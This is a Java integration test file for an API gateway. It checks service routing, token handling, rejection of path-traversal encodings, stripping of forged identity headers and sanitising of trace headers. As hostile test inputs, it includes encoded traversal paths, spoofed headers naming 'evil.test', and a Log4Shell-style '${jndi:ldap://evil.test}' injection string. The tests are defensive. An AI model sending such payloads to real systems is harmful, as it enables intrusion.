package id.bekal.gateway.route;

import static org.assertj.core.api.Assertions.assertThat;

import id.bekal.gateway.Backend;
import id.bekal.gateway.GatewayFixture;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.Map;

class RoutesIT {

    private static GatewayFixture gateway;

    @BeforeAll
    static void start() {
        gateway = new GatewayFixture();
    }

    @AfterAll
    static void stop() {
        gateway.close();
    }

    @BeforeEach
    void forget() throws Exception {
        gateway.send(gateway.authorized("/api/programs")); // fetches the keys
        gateway.forget();
        gateway.agreements.answers(exchange -> "agreements");
        gateway.training.answers(exchange -> "training");
        gateway.certification.answers(exchange -> "certification");
        gateway.events.answers(exchange -> "events");
        gateway.identity.answers(exchange -> "identity");
    }

    @ParameterizedTest
    @CsvSource({
        "/api/institutions, agreements, /api/institutions",
        "/api/agreements/1/signatures?a=b%20c, agreements, /api/agreements/1/signatures?a=b%20c",
        "/api/learners/imports, training, /api/learners/imports",
        "/api/curricula, training, /api/curricula",
        "/api/instructors, training, /api/instructors",
        "/api/programs?after=x, training, /api/programs?after=x",
        "/api/eligibility-policies, training, /api/eligibility-policies",
        "/api/certificates/1/document, certification, /api/certificates/1/document",
        "/api/competence-certificates, certification, /api/competence-certificates",
        "/api/issuers, certification, /api/issuers",
        "/api/issuances/approval, certification, /api/issuances/approval",
        "/api/issuances/p/documents, certification, /api/issuances/p/documents",
        "/operations/agreements/outbox, agreements, /operations/outbox",
        "/operations/training/dead-letters, training, /operations/dead-letters",
        "/operations/training/dead-letters/1/replay?a=1, training, /operations/dead-letters/1/replay?a=1",
        "/api/events?after=3&wait=20, events, /api/events?after=3&wait=20",
        "/api/events/stream?after=3, events, /api/events/stream?after=3",
        "/api/events/tickets, events, /api/events/tickets",
        "/api/webhooks/1, events, /api/webhooks/1",
        "/api/insights/programs, events, /api/insights/programs",
        "/operations/events/dead-letters, events, /operations/dead-letters",
        "/operations/certification, certification, /operations",
        "/operations/training/access-log?after=x, training, /operations/access-log?after=x",
        "/operations/identity/access-log, identity, /operations/access-log",
        "/api/clients/1/secrets, identity, /api/clients/1/secrets",
        "/api/accounts?after=x, identity, /api/accounts?after=x"
    })
    void leadToTheServiceWithPathAndToken(String path, String service, String seen)
            throws Exception {
        String token = gateway.token();

        var response =
                gateway.send(gateway.request(path).header("Authorization", "Bearer " + token));

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.body()).isEqualTo(service);
        assertThat(backend(service).only().path()).isEqualTo(seen);
        assertThat(backend(service).only().header("Authorization")).isEqualTo("Bearer " + token);
    }

    @ParameterizedTest
    @CsvSource({
        "/oauth2/token, identity",
        "/.well-known/openid-configuration, identity",
        "/oauth2/authorize?client_id=a, identity",
        "/oauth2/jwks, identity",
        "/userinfo, identity",
        "/connect/logout, identity",
        "/login, identity",
        "/login?error, identity",
        "/login/code, identity",
        "/logout, identity",
        "/invitation/abc, identity",
        "/totp, identity",
        "/assets/identity/page.css, identity",
        "/verify/abc, certification",
        "/holders/abc, certification",
        "/status-lists/1, certification",
        "/issuers/1/did.json, certification",
        "/api/events/stream?ticket=abc&after=3, events"
    })
    void leadThePublicToTheirServiceWithoutToken(String path, String service) throws Exception {
        var response = gateway.send(gateway.request(path));

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.body()).isEqualTo(service);
        assertThat(backend(service).only().path()).isEqualTo(path);
    }

    @Test
    void passOnMethodBodyAndWhatCommandsNeed() throws Exception {
        gateway.send(
                gateway.authorized("/api/agreements")
                        .header("Idempotency-Key", "k1")
                        .header("If-Match", "\"3\"")
                        .header("Content-Type", "application/json")
                        .POST(BodyPublishers.ofString("{\"a\":1}")));

        Backend.Seen seen = gateway.agreements.only();
        assertThat(seen.method()).isEqualTo("POST");
        assertThat(seen.body()).asString().isEqualTo("{\"a\":1}");
        assertThat(seen.header("Idempotency-Key")).isEqualTo("k1");
        assertThat(seen.header("If-Match")).isEqualTo("\"3\"");
        assertThat(seen.header("Content-Type")).isEqualTo("application/json");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"/live", "/api", "/api/unknown", "/api/access-log", "/operations", "/x/y"})
    void leadNowhereFromElsewhere(String path) throws Exception {
        var response = gateway.send(gateway.authorized(path));

        assertThat(response.statusCode()).isEqualTo(404);
        assertThat(response.body()).contains("\"code\":\"NOT_FOUND\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/programs/..%2f..%2foperations/x",
                "/api/programs/%2e%2e/learners",
                "//api/programs",
                "/api/programs;a=b",
                "/verify/..%5c..%5capi"
            })
    void refusePathsMadeToBeReadTwice(String path) throws Exception {
        var response = gateway.send(gateway.authorized(path));

        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.body()).contains("\"code\":\"MALFORMED_REQUEST\"");
        assertThat(gateway.training.seen()).isEmpty();
        assertThat(gateway.certification.seen()).isEmpty();
    }

    @Nested
    class ForgedHeadersOnTheWay {

        @Test
        void areTakenOff() throws Exception {
            Map<String, String> forged =
                    Map.of(
                            "X-Bekal-Institution", "inst-9",
                            "X-User", "admin",
                            "X-User-Id", "1",
                            "X-Forwarded-User", "admin",
                            "X-Client-Cert", "cert",
                            "X-Forwarded-Host", "evil.test",
                            "Forwarded", "for=10.9.9.9;host=evil.test");
            var request = gateway.authorized("/api/programs");
            forged.forEach(request::header);
            request.header("X-Forwarded-For", "10.9.9.9");

            gateway.send(request);

            Backend.Seen seen = gateway.training.only();
            forged.forEach((name, value) -> assertThat(seen.header(name)).as(name).isNull());
            assertThat(seen.header("X-Forwarded-For")).isEqualTo("127.0.0.1");
        }
    }

    @Nested
    class Tracing {

        private static final String TRACE = "4bf92f3577b34da6a3ce929d0e0e4736";

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
                    "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
                    "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
                    "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                    "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7",
                    "00-4bf92f3577b34da6a3ce929d0e0e473-00f067aa0ba902b7-01",
                    "${jndi:ldap://evil.test}",
                    "00-xbf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
                })
        void doesNotGoOnWithWhatIsNoTrace(String made) throws Exception {
            var response =
                    gateway.send(
                            gateway.authorized("/api/programs")
                                    .header("traceparent", made)
                                    .header("tracestate", "evil=1")
                                    .header("baggage", "evil=1"));

            Backend.Seen seen = gateway.training.only();
            assertThat(seen.header("traceparent"))
                    .matches("00-[0-9a-f]{32}-[0-9a-f]{16}-0[01]")
                    .doesNotContainIgnoringCase(TRACE)
                    .contains(response.headers().firstValue("X-Trace-Id").orElseThrow());
            assertThat(seen.header("tracestate")).isNull();
            assertThat(seen.header("baggage")).isNull();
        }

        @Test
        void goesOnWithTheCallersTrace() throws Exception {
            var response =
                    gateway.send(
                            gateway.authorized("/api/programs")
                                    .header("traceparent", "00-" + TRACE + "-00f067aa0ba902b7-01"));

            assertThat(response.headers().allValues("X-Trace-Id")).containsExactly(TRACE);
            assertThat(gateway.training.only().header("traceparent"))
                    .startsWith("00-" + TRACE + "-")
                    .doesNotContain("00f067aa0ba902b7")
                    .endsWith("-01");
        }

        @Test
        void startsOneOtherwiseAndTellsItsIdOnce() throws Exception {
            gateway.training.answers(
                    exchange -> {
                        exchange.getResponseHeaders().set("X-Trace-Id", "the service's own");
                        return "training";
                    });

            var response = gateway.send(gateway.authorized("/api/programs"));

            var ids = response.headers().allValues("X-Trace-Id");
            assertThat(ids).hasSize(1);
            assertThat(gateway.training.only().header("traceparent"))
                    .startsWith("00-" + ids.getFirst() + "-");
        }
    }

    private static Backend backend(String name) {
        return switch (name) {
            case "agreements" -> gateway.agreements;
            case "training" -> gateway.training;
            case "certification" -> gateway.certification;
            case "events" -> gateway.events;
            default -> gateway.identity;
        };
    }
}
